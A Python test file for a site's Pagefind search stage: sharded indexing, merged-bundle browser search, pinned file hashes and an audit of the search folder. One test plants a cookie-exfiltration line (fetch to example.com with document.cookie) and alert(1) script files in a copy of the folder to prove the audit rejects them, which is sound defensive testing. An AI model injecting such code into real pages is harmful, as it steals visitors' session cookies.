"""The search stage: Pagefind's shipped files are allowed by name and hash, and nothing else lands beside them."""

from __future__ import annotations

import shutil
from pathlib import Path

from tracker import search

PAGE = ('<!doctype html><html lang="en"><head><title>{t}</title></head><body><main data-pagefind-body><h1>{t}</h1>'
        '<p>{t} LED packaging in Anyuan.</p><ul class="tr-related"><li>Jiaxing</li></ul></main></body></html>')


def _site(tmp_path: Path, names=("Tianyou",)) -> Path:
    site = tmp_path / "site"
    for i, name in enumerate(names):
        page = site / (f"p{i}/index.html" if i else "index.html")
        page.parent.mkdir(parents=True, exist_ok=True)
        page.write_text(PAGE.format(t=name))
    (site / "listing.html").write_text("<!doctype html><html><body><p>Jiaxing Tianyou listing</p></body></html>")
    return site


def _index(tmp_path: Path) -> Path:
    site = _site(tmp_path)
    findings = search.Indexer(site).finish()
    assert findings == []
    return site / search.FOLDER


def test_a_large_site_is_indexed_in_shards_that_the_ui_merges(tmp_path):
    """Pagefind's memory grows with the pages it holds: past SHARD_PAGES, bundles of their own."""
    import json

    site = _site(tmp_path, ("Alpha", "Bravo", "Charlie", "Delta", "Echo"))
    indexer = search.Indexer(site, shard_pages=2)
    assert indexer.finish() == []
    assert indexer.bundles == ["pagefind", "pagefind-2", "pagefind-3"]
    assert json.loads((site / "pagefind" / "bundles.json").read_text()) == {"merge": ["pagefind-2", "pagefind-3"]}
    counts = [json.loads((site / b / "pagefind-entry.json").read_text())["languages"]["en"]["page_count"]
              for b in indexer.bundles]
    assert counts == [2, 2, 1]  # the listing page (no data-pagefind-body) is in none of them
    assert not list(tmp_path.glob(".search-shard-*"))  # the shard views are gone
    (site / "pagefind-9").mkdir()
    assert search.audit_bundles(site) == ["pagefind-9/: a search bundle not listed in pagefind/bundles.json"]


def test_merged_bundles_are_searched_as_one(tmp_path):
    from tests.browser import chromium, serve

    site = _site(tmp_path, ("Alpha", "Bravo", "Charlie", "Delta", "Echo"))
    assert search.Indexer(site, shard_pages=2).finish() == []
    ui = (Path(__file__).resolve().parent.parent / "docs" / "assets" / "tracker.js").read_text()
    (site / "search.html").write_text('<!doctype html><html lang="en"><head><title>s</title></head><body>'
                                      '<div class="md-header__inner"></div>'
                                      f"<script>{ui}</script></body></html>")
    with serve(site) as url, chromium() as browser:
        page = browser.new_page()
        page.goto(url + "search.html")
        page.keyboard.press("/")
        page.locator(".pagefind-ui__search-input").fill("packaging")
        page.wait_for_function("[...document.querySelectorAll('.pagefind-ui__result-title')]"
                               ".filter(t => /^[A-Z][a-z]+$/.test(t.textContent.trim())).length === 5")
        titles = sorted(page.locator(".pagefind-ui__result-title").all_inner_texts())
        page.close()
    assert titles == ["Alpha", "Bravo", "Charlie", "Delta", "Echo"]  # from all three bundles


def test_shipped_files_are_those_of_the_pinned_pagefind(tmp_path):
    """SHIPPED holds the hashes of the pinned binary's files: an upgrade must update them, deliberately."""
    folder = _index(tmp_path)
    assert search.shipped_hashes(folder) == search.SHIPPED
    assert not any((folder / name).exists() for name in search.UNUSED)  # variants nothing loads are gone


def test_audit_refuses_changed_and_foreign_files(tmp_path):
    folder = _index(tmp_path)
    spare = tmp_path / "spare"
    shutil.copytree(folder, spare)
    with open(spare / "pagefind-ui.js", "a") as fh:
        fh.write("\nfetch('https://example.com/?' + document.cookie)\n")
    (spare / "extra.js").write_text("alert(1)")
    (spare / "fragment" / "evil.html").write_text("<script>alert(1)</script>")
    findings = search.audit(spare)
    assert "pagefind/pagefind-ui.js: not the file Pagefind ships (hash differs)" in findings
    assert "pagefind/extra.js: not a file Pagefind ships or an index file" in findings
    assert "pagefind/fragment/evil.html: not a file Pagefind ships or an index file" in findings
    assert len(findings) == 3
